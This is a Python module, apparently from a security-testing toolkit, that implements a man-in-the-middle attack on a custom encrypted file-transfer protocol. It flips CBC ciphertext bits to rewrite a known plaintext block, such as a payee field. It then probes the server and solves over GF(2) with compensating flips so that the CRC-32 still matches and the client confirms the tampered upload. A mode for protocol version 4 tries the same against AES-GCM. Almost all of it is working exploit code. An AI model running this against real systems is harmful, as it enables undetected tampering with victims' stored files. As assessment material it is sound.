"""No integrity: rewrite part of a file in transit and keep its CRC equal.

A man in the middle knows one block of the victim's file (``--known`` at ``--offset``:
a form, a header, a template) and wants it to read ``--replace``. CBC is malleable:
XORing ``known ^ replace`` into the previous ciphertext block changes exactly those
plaintext bytes (and turns the previous block into garbage we cannot predict). The
CRC would then differ and the client would resend, so we fix it. CRC-32 is linear
and the server tells us the CRC of whatever it decrypted (1603), so, holding the
victim's attempt back:

1. send the original attempt: 1603 gives the client's own CRC ``S``; 902;
2. send the modified attempt: its CRC ``S'``; 902;
3. for each of up to ``--positions`` blocks far from the change, flip one bit of the
   ciphertext and send it with the change: the difference to ``S'`` is that flip's
   fixed contribution to the CRC; 902 each time;
4. pick (Gaussian elimination over GF(2)) the flips whose contributions XOR to
   ``S ^ S'`` and send the change with those flips as the real attempt. The server's
   CRC of it is ``S``: we forward that genuine 1603 to the client, which confirms
   with 900, and the server stores the modified file.

``--protocol 4``: AES-GCM is malleable too (a counter mode: flipping a ciphertext bit
flips that plaintext bit, without garbling anything), but its tag covers the header and
every byte. We flip ``known ^ replace`` into the data record that carries ``--offset``
(assuming the upload starts at chunk 1) and forward it: the server closes without an
answer. When the client reconnects and resumes, we let its data through and flip one
byte of the server's 1603 (the digest inside it) instead: the client stops without a
verdict. Success would be any answer to an altered record.
"""

from __future__ import annotations

import argparse
import asyncio

from eft_protocol.codes import RequestCode, ResponseCode
from eft_protocol.v4.pack import ENTRY_HEAD_SIZE, PACK, PACK_HEAD_SIZE

from .common import AttackError, Out, add_listen_argument, add_target_argument
from .framing import Frame, name_request, resliced
from .gf2 import members, solve
from .proxy import Interceptor, MitmConnection, MitmProxy
from .recording import Attempt
from .v4 import PREFIX, add_protocol_argument, flip

FINDING = "EFT-07"
SUMMARY = "CBC bit flipping with the CRC kept equal (CRC-32 is linear, not a MAC)"
BLOCK = 16


def add_arguments(parser: argparse.ArgumentParser) -> None:
    add_target_argument(parser)
    add_listen_argument(parser)
    parser.add_argument("--offset", type=int, required=True, help="byte offset of --known")
    parser.add_argument("--known", required=True, help="plaintext known to be at --offset")
    parser.add_argument("--replace", required=True, help="what it should say (same length)")
    parser.add_argument("--file", help="only this file (default: the first one)")
    parser.add_argument("--positions", type=int, default=48, help="CRC-fixing flips (48)")
    add_protocol_argument(parser)
    parser.add_argument(
        "--linger", type=float, default=5.0, help="version 4: wait for a reconnect (5 s)"
    )


class Forge(Interceptor):
    def __init__(self, out: Out, args: argparse.Namespace) -> None:
        self.out, self.args = out, args
        self.known, self.replace = args.known.encode(), args.replace.encode()
        start = args.offset % BLOCK
        if len(self.known) != len(self.replace) or start + len(self.known) > BLOCK:
            raise AttackError("--known and --replace must have one length and fit one block")
        if args.offset < BLOCK:
            raise AttackError("the first block cannot be changed: its 'previous block' is the IV")
        self.outcome: dict[str, object] | None = None

    async def client_frame(self, conn: MitmConnection, frame: Frame) -> None:
        if not frame.is_packet or self.outcome is not None:
            await conn.to_server(frame.raw)
            return
        packet, _ = frame.packet()
        if self.args.file and packet.file_name != self.args.file:
            await conn.to_server(frame.raw)
            return
        attempt = conn.scratch.get("attempt")
        if attempt is None:
            attempt = conn.scratch["attempt"] = Attempt(
                packet.file_name, packet.orig_size, packet.content_size
            )
        attempt.packets.append(frame)
        if attempt.complete:
            conn.capture = True
            try:
                final_1603 = await self._forge(conn, attempt)
            finally:
                conn.capture = False
            await conn.to_client(final_1603.raw)

    async def _probe(self, conn: MitmConnection, attempt: Attempt, ciphertext: bytes) -> int:
        assert attempt.packets[0].client_id is not None
        await conn.send(*resliced(attempt.packets, bytes(ciphertext)))
        answer = await conn.receive()
        if answer.code != ResponseCode.FILE_RECEIVED:
            raise AttackError(f"the server refused a probe ({answer.code})")
        give_up = name_request(
            attempt.packets[0].client_id, RequestCode.CRC_GIVE_UP, attempt.file_name
        )
        await conn.send(give_up)
        await conn.receive()
        return answer.file_received().cksum

    async def _forge(self, conn: MitmConnection, attempt: Attempt) -> Frame:
        original = attempt.ciphertext
        blocks = len(original) // BLOCK
        crc = await self._probe(conn, attempt, original)
        changed = bytearray(original)
        at = self.args.offset - BLOCK  # the same bytes, one block earlier
        for i, (a, b) in enumerate(zip(self.known, self.replace, strict=True)):
            changed[at + i] ^= a ^ b
        changed_crc = await self._probe(conn, attempt, bytes(changed))
        self.out.step("probed the original and the change", cksum=crc, changed_cksum=changed_crc)
        touched = self.args.offset // BLOCK - 1  # the ciphertext block we changed
        # Flip ciphertext block j: garbles plaintext j, flips a bit of j + 1. Keep those
        # pairs apart from each other, from the change, and from the padding block.
        spots = [j for j in range(0, blocks - 2, 2) if abs(j - touched) >= 2]
        spots = spots[: self.args.positions]
        effects = []
        for j in spots:
            flipped = bytearray(changed)
            flipped[j * BLOCK] ^= 0x01
            effects.append(await self._probe(conn, attempt, bytes(flipped)) ^ changed_crc)
        subset, _ = solve(effects, crc ^ changed_crc)
        if subset is None:
            raise AttackError(f"{len(spots)} flips cannot reach the CRC: the file is too short")
        chosen = [spots[i] for i in members(subset)]
        for j in chosen:
            changed[j * BLOCK] ^= 0x01
        await conn.send(*resliced(attempt.packets, bytes(changed)))
        final = await conn.receive()
        final_crc = (
            final.file_received().cksum if final.code == ResponseCode.FILE_RECEIVED else None
        )
        self.outcome = {
            "file_name": attempt.file_name,
            "probes": len(spots) + 2,
            "flips": len(chosen),
            "cksum": crc,
            "final_cksum": final_crc,
        }
        self.out.step(f"sent the forgery with {len(chosen)} compensating flips", **self.outcome)
        return final

    async def client_closed(self, conn: MitmConnection) -> None:
        conn.close_server()
        self.proxy.finish(self.outcome is not None)


class ForgeV4(Interceptor):
    def __init__(self, out: Out, args: argparse.Namespace) -> None:
        self.out, self.args = out, args
        known, replace = args.known.encode(), args.replace.encode()
        if len(known) != len(replace):
            raise AttackError("--known and --replace must have one length")
        self.delta = bytes(a ^ b for a, b in zip(known, replace, strict=True))
        self.altered_828 = 0
        self.altered_1603 = 0
        self.server_after_828: list[int] = []  # what the server sent after an altered 828
        self.client_after_1603: list[int] = []  # what the client sent after an altered 1603

    async def client_frame(self, conn: MitmConnection, frame: Frame) -> None:
        scratch = conn.scratch
        count = scratch["requests"] = scratch.get("requests", 0) + 1
        if scratch.get("altered") == 1603:
            self.client_after_1603.append(frame.code)
        if count > 2 and frame.code == PACK and self.altered_828 == 0:
            await conn.to_server(self._flip_pack(conn, frame))
            return
        if count <= 2 or frame.code != RequestCode.SEND_FILE:
            scratch["meta_next"] = count == 2 or frame.code in (900, 901, 902)
            await conn.to_server(frame.raw)
            return
        if scratch.pop("meta_next", False):
            scratch["at"] = 0  # file bytes before this upload's next data record
            await conn.to_server(frame.raw)
            return
        start, size = scratch["at"], len(frame.payload) - PREFIX - 16
        scratch["at"] = start + size
        offset = self.args.offset
        if self.altered_828 == 0 and start <= offset < start + size - len(self.delta) + 1:
            raw = frame.raw
            for i, mask in enumerate(self.delta):
                raw = flip(raw, 23 + PREFIX + offset - start + i, mask)
            self.altered_828 += 1
            scratch["altered"] = 828
            self.out.step(f"connection {conn.number}: flipped the payee in the data record")
            await conn.to_server(raw)
            return
        await conn.to_server(frame.raw)

    def _flip_pack(self, conn: MitmConnection, frame: Frame) -> bytes:
        """A client with PACK sends small files whole, several to a 904 record: the
        payee is ``--offset`` bytes into the first file's data, after the pack's and
        the entry's heads and the name (its length unknown to us; any flip of the
        ciphertext is what matters to AES-GCM)."""
        raw = frame.raw
        at = min(23 + PACK_HEAD_SIZE + ENTRY_HEAD_SIZE + self.args.offset, len(raw) - 17)
        for i, mask in enumerate(self.delta):
            raw = flip(raw, min(at + i, len(raw) - 17), mask)
        self.altered_828 += 1
        conn.scratch["altered"] = 828
        self.out.step(f"connection {conn.number}: flipped the payee in the pack record (904)")
        return raw

    async def server_frame(self, conn: MitmConnection, frame: Frame) -> None:
        scratch = conn.scratch
        if scratch.get("altered") == 828:
            self.server_after_828.append(frame.code)
        elif frame.code == 1603 and self.altered_828 and not self.altered_1603:
            self.altered_1603 += 1
            scratch["altered"] = 1603
            self.out.step(f"connection {conn.number}: flipped a byte of the digest in 1603")
            await conn.to_client(flip(frame.raw, 7 + 12))
            return
        await conn.to_client(frame.raw)

    async def client_closed(self, conn: MitmConnection) -> None:
        conn.close_server()
        if conn.scratch.get("altered") == 1603:
            self.proxy.finish(False)
        elif conn.scratch.get("altered") == 828:
            asyncio.get_running_loop().call_later(self.args.linger, self._no_reconnect)

    def _no_reconnect(self) -> None:
        if not self.altered_1603:
            self.proxy.finish(False)


async def run_v4(args: argparse.Namespace, out: Out) -> bool:
    forge = ForgeV4(out, args)
    await MitmProxy(args.target, forge, out).run(args.listen, args.timeout)
    fields = {
        "altered_828": forge.altered_828,
        "altered_1603": forge.altered_1603,
        "server_after_altered_828": forge.server_after_828,
        "client_after_altered_1603": forge.client_after_1603,
    }
    if forge.server_after_828 or forge.client_after_1603:
        return out.result(True, "an altered record was answered", **fields)
    return out.result(
        False,
        "the server closed on the altered data record without an answer, and the client "
        "stopped on the altered 1603 without a verdict",
        **fields,
    )


async def run(args: argparse.Namespace, out: Out) -> bool:
    if args.protocol == 4:
        return await run_v4(args, out)
    forge = Forge(out, args)
    await MitmProxy(args.target, forge, out).run(args.listen, args.timeout)
    outcome = forge.outcome or {}
    equal = outcome.get("final_cksum") is not None and outcome["final_cksum"] == outcome["cksum"]
    if equal:
        return out.result(
            True,
            f"the server's CRC of the modified {outcome['file_name']!r} equals the client's: "
            "the client confirmed it",
            **outcome,
        )
    return out.result(False, "the forgery did not keep the CRC", **outcome)
